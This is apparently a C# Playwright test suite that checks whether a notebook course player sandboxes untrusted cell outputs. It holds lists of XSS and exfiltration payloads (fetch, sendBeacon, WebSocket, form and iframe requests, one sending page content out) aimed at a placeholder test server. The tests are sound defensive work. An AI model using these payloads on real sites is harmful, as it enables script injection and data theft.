using Microsoft.Playwright;

namespace NotebookCourse.Player.Tests.Live;

/// <summary>Chapters of somebody who means harm. What they attempt is refused by the browser, which says so, so no page of these is looked after.</summary>
[Collection<LiveCollection>]
public sealed class StrangerTests(LiveCourse live) : LiveTest(live)
{
    private const string Done = "has tried";

    /// <summary>What the scripts of an output may attempt; <c>{0}</c> is the address of a server that must hear nothing.</summary>
    private static readonly string[] Attempts =
    [
        "parent.document.querySelector('.run').click()",
        "top.document.body.innerHTML = ''",
        "parent.DotNet.invokeMethodAsync('x', 'y')",
        "parent.postMessage({ height: 1e9, drawn: true, type: 'RunCell' }, '*')",
        "top.location = '{0}/top'",
        "parent.location.href = '{0}/parent'",
        "open('{0}/open')",
        "open('{0}/opentop', '_top')",
        "document.body.append(Object.assign(document.createElement('a'), { href: '{0}/link', target: '_top', ping: '{0}/ping' })); document.querySelector('a').click()",
        "document.body.append(Object.assign(document.createElement('a'), { href: '{0}/blank', target: '_blank' })); document.querySelector('a').click()",
        "const talk = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + '{0}'.slice(7) }] }); talk.createDataChannel('x'); talk.createOffer().then(offer => talk.setLocalDescription(offer))",
        "const frame = document.createElement('iframe'); frame.srcdoc = '<script>fetch(\"{0}/inner\").catch(() => {}); location = \"{0}/leaving\"</' + 'script>'; document.body.append(frame)",
        "const form = document.createElement('form'); form.action = '{0}/form'; document.body.append(form); form.submit()",
        "const frame = document.createElement('iframe'); frame.src = '{0}/frame'; document.body.append(frame)",
        "fetch('{0}/fetch').catch(() => {}); navigator.sendBeacon('{0}/beacon'); new Image().src = '{0}/image'",
        "new XMLHttpRequest().open('GET', '{0}/xhr'); new WebSocket('{0}/socket'.replace('http', 'ws')); new EventSource('{0}/events')",
        "import('{0}/module.js').catch(() => {}); document.head.append(Object.assign(document.createElement('script'), { src: '{0}/script.js' }))",
        "document.head.append(Object.assign(document.createElement('style'), { textContent: '@import url({0}/import.css); body { background: url({0}/background) } @font-face { font-family: x; src: url({0}/font) } body { font-family: x }' }))",
        "for (const rel of ['stylesheet', 'preload', 'prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'icon', 'manifest']) document.head.append(Object.assign(document.createElement('link'), { rel, href: '{0}/' + rel, as: 'script' }))",
        "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['{0}/speculation'] }] }) }))",
        "new Worker(URL.createObjectURL(new Blob([\"fetch('{0}/worker')\"])))",
        "localStorage.getItem('notebookcourse-place')",
        "document.cookie = 'a=b'; alert(document.cookie)",
        "fetch('/').then(answer => answer.text()).then(text => { document.title = text; }).catch(() => {})",
        "history.back(); history.pushState(null, '', '/x')",
    ];

    /// <summary>How an output may attempt to leave, in its own frame. The browser then shows there that it may not.</summary>
    private static readonly string[] Leavings =
    [
        "location = '{0}/own'",
        "location.replace('{0}/replace?' + document.body.innerHTML)",
        "open('{0}/self', '_self')",
        "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url={0}/meta'; document.head.append(meta)",
        "location = 'data:text/html,<script>fetch(\"{0}/data\")</' + 'script>'",
        "location = URL.createObjectURL(new Blob(['<script>fetch(\"{0}/blob\")</' + 'script>'], { type: 'text/html' }))",
        "location = location.origin + '/enter/x'",
    ];

    [Fact]
    public async Task Open_AChapterOfEveryTrick_RunsNothing()
    {
        using var elsewhere = new Elsewhere();
        var written = Path.Combine(Live.Course.Root, "notebooks", $"{Guid.NewGuid():N}.txt");
        var run = "document.querySelectorAll('.run').forEach(button => button.click())";
        var (_, page) = await StrangeAsync(
            $"File.WriteAllText(@\"{written}\", \"\");",
            $"""
            #!markdown

            <script>window.acted = 1; {run}</script> <img src=x onerror="window.acted = 2; {run}"> <svg onload="window.acted = 3"></svg>
            <details open ontoggle="window.acted = 4"></details> [a link](javascript:window.acted=5) <iframe srcdoc="<script>parent.acted = 6</script>"></iframe>
            <img src="{elsewhere.Address}/pixel"> <object data="{elsewhere.Address}/object"></object>
            """,
            $"#!html\n\n<script>window.acted = 7; {run}</script>",
            $"#!javascript\n\nwindow.acted = 8; {run}",
            "#!mermaid\n\ngraph LR; a[<img src=x onerror='window.acted=9'>] --> b; click a \"javascript:window.acted=10\"");

        await page.Locator("svg").First.WaitForAsync();

        Assert.Equal(0, await page.Locator("iframe.sheet").CountAsync());
        Assert.False(await page.EvaluateAsync<bool>("() => 'acted' in window"));
        Assert.Equal(0, await page.Locator("section.cell:is(.running, .queued), .summary:not(:empty)").CountAsync());
        Assert.False(File.Exists(written));
        Assert.Empty(elsewhere.Requests);
    }

    [Fact]
    public async Task Run_OutputsOfEveryTrick_ReachNothing()
    {
        using var elsewhere = new Elsewhere();
        var written = Path.Combine(Live.Course.Root, "notebooks", $"{Guid.NewGuid():N}.txt");
        string[] tricks = [.. Attempts.Concat(Leavings).Select((attempt, index) =>
            $"#!{(index % 2 == 0 ? "html" : "javascript")}\n\n" + Script(attempt.Replace("{0}", elsewhere.Address, StringComparison.Ordinal), index % 2 == 0))];
        var (_, page) = await StrangeAsync([.. tricks, $"File.WriteAllText(@\"{written}\", \"\");"]);
        var address = page.Url;

        for (var cell = 1; cell <= tricks.Length; cell++) await ClickAsync(page, cell);

        for (var cell = 1; cell <= tricks.Length; cell++) await TriedAsync(page.Locator($"#c{cell} iframe.sheet"));
        Assert.Equal(address, page.Url);
        Assert.Single(page.Context.Pages);
        Assert.False(File.Exists(written));
        Assert.True(await page.EvaluateAsync<bool>("() => [...document.querySelectorAll('iframe.sheet')].every(frame => frame.offsetHeight < 2000)"));
        Assert.Empty(elsewhere.Requests);
        // So that a server that hears nothing is not one that cannot.
        await page.Context.APIRequest.GetAsync(elsewhere.Address);
        Assert.Single(elsewhere.Requests);
    }

    [Fact]
    public async Task Run_CSharpCellsThatShowHtml_ReachNothingAndShowWhatIsHarmless()
    {
        using var elsewhere = new Elsewhere();
        var attempts = string.Concat(Attempts.Select(attempt => $"try {{ {attempt.Replace("{0}", elsewhere.Address, StringComparison.Ordinal)} }} catch {{ }}\n"));
        var (live, page) = await StrangeAsync(
            """
            [AttributeUsage(AttributeTargets.Class)]
            class TypeFormatterSourceAttribute(Type source) : Attribute { public Type FormatterSourceType => source; }
            class HtmlFormatter { public string MimeType => "text/html"; public bool Format(object value, TextWriter writer) { writer.Write(((Html)value).Text); return true; } }
            class HtmlFormatters { public IEnumerable<object> CreateTypeFormatters() => [new HtmlFormatter()]; }
            [TypeFormatterSource(typeof(HtmlFormatters))]
            class Html(string text) { public string Text => text; }
            """,
            Shows($"<p>With a script.</p><script>{attempts} setTimeout(() => document.body.append('{Done}'), 500)</script>"),
            "new[] { new { Name = \"<img src=x onerror='document.title=1'>\", Born = 1815 } }",
            Shows($"<p>With a picture.</p><img src='{elsewhere.Address}/pixel'>"),
            Shows($"<form action='{elsewhere.Address}/form'><input name='a'><button>Send</button></form><script>document.forms[0].submit(); document.querySelector('button').click()</script>"),
            Shows($"<a href='{elsewhere.Address}/top' target='_top'>A link.</a>"),
            Shows($"<p>Goes on.</p><meta http-equiv='refresh' content='0;url={elsewhere.Address}/refresh'>"),
            Shows("<p style='position: fixed; inset: 0; z-index: 2147483647'>Over all.</p>"),
            Shows("<p><b>Harmless.</b></p><table><tr><td>7</td></tr></table>") + ".Display();");
        var address = page.Url;

        for (var cell = 1; cell <= 9; cell++)
        {
            await ClickAsync(page, cell);
            await live.EndAsync(cell, before: 0);
        }
        await TriedAsync(live.Output(2).Locator("iframe.sheet"));
        await page.FrameLocator("#c5 iframe.sheet").GetByRole(AriaRole.Button).DispatchEventAsync("click");
        await page.FrameLocator("#c6 iframe.sheet").GetByRole(AriaRole.Link).DispatchEventAsync("click");

        await AssertContainsAsync(page.FrameLocator("#c2 iframe.sheet").Locator("body"), "With a script.");
        await AssertContainsAsync(live.Output(3).Locator("table").First, "<img src=x");
        await AssertContainsAsync(page.FrameLocator("#c4 iframe.sheet").Locator("body"), "With a picture.");
        // It fills its own place, which has no height.
        await AssertTextAsync(live.Output(8).Locator("p"), "Over all.");
        await AssertVisibleAsync(live.Output(9).Locator("b"));
        await AssertTextAsync(live.Output(9).Locator("td"), "7");
        Assert.True(await page.EvaluateAsync<bool>(
            """
            () => [...document.querySelectorAll(".toolbar button, #c1 .run, #c9 .run")].every(button => {
              button.scrollIntoView({ block: "center" });
              const { left, top, width, height } = button.getBoundingClientRect();
              return button.disabled || button.contains(document.elementFromPoint(left + width / 2, top + height / 2));
            })
            """));
        Assert.Equal(address, page.Url);
        Assert.Single(page.Context.Pages);
        Assert.NotEqual("1", await page.TitleAsync());
        Assert.Empty(elsewhere.Requests);

        // Each is shown by a value of a class that the cell has made.
        static string Shows(string html) => $"new Html(\"\"\"\"\n{html}\n\"\"\"\")";
    }

    [Fact]
    public async Task Cookie_OfThePlayer_GoesToNoOtherServerOfTheMachine()
    {
        using var elsewhere = new Elsewhere();
        var (_, page) = await StrangeAsync("1 + 1");
        var place = new Uri(page.Url).Segments[1];

        foreach (var path in new[] { "/", "/chapter/00-first", "/enter/x", "/output-sheet", "/_blazor" }) await page.GotoAsync(elsewhere.Address + path);
        Assert.DoesNotContain(elsewhere.Requests, head => head.Contains("Cookie:", StringComparison.OrdinalIgnoreCase));

        // Who knows the place would be sent it, so this test can fail.
        await page.GotoAsync($"{elsewhere.Address}/{place}");
        Assert.Contains(elsewhere.Requests, head => head.StartsWith($"GET /{place} ", StringComparison.Ordinal) && head.Contains("notebookcourse=", StringComparison.Ordinal));
    }

    // What the browser refuses is said in its console, which other tests take for a fault.
    private async Task<(LivePage Live, IPage Page)> StrangeAsync(params string[] cells)
    {
        var page = await LivePage.OpenAsync(await Live.Browser.OpenAsync());
        await page.EnterAsync(Live.Player);
        await page.GoToAsync(Live.Course.Write(cells));
        Closes(page.Page);
        return (page, page.Page);
    }

    // Sent to the button itself: it moves while sheets above it grow.
    private static Task ClickAsync(IPage page, int cell) => page.Locator($"#c{cell} button.run").DispatchEventAsync("click");

    // Where one tried to leave, the browser shows its refusal in the place of the output, or leaves the output where it is.
    private static async Task TriedAsync(ILocator sheet)
    {
        using var patience = CancellationTokenSource.CreateLinkedTokenSource(TestContext.Current.CancellationToken);
        patience.CancelAfter((int)LivePage.Patience);
        var frame = await (await sheet.ElementHandleAsync()).ContentFrameAsync();
        while (frame!.Url != "chrome-error://chromewebdata/" && (await frame.TextContentAsync("body"))?.EndsWith(Done, StringComparison.Ordinal) != true)
            await Task.Delay(20, patience.Token);
    }

    // What it leads to has been under way for a while when it says that it has tried.
    private static string Script(string attempt, bool html)
    {
        var script = $$"""try { {{attempt}} } catch (error) { console.info(String(error)); } setTimeout(() => { document.body.append("{{Done}}"); }, 500);""";
        return html ? $"<p>An output.</p><script>{script}</script>" : script;
    }
}
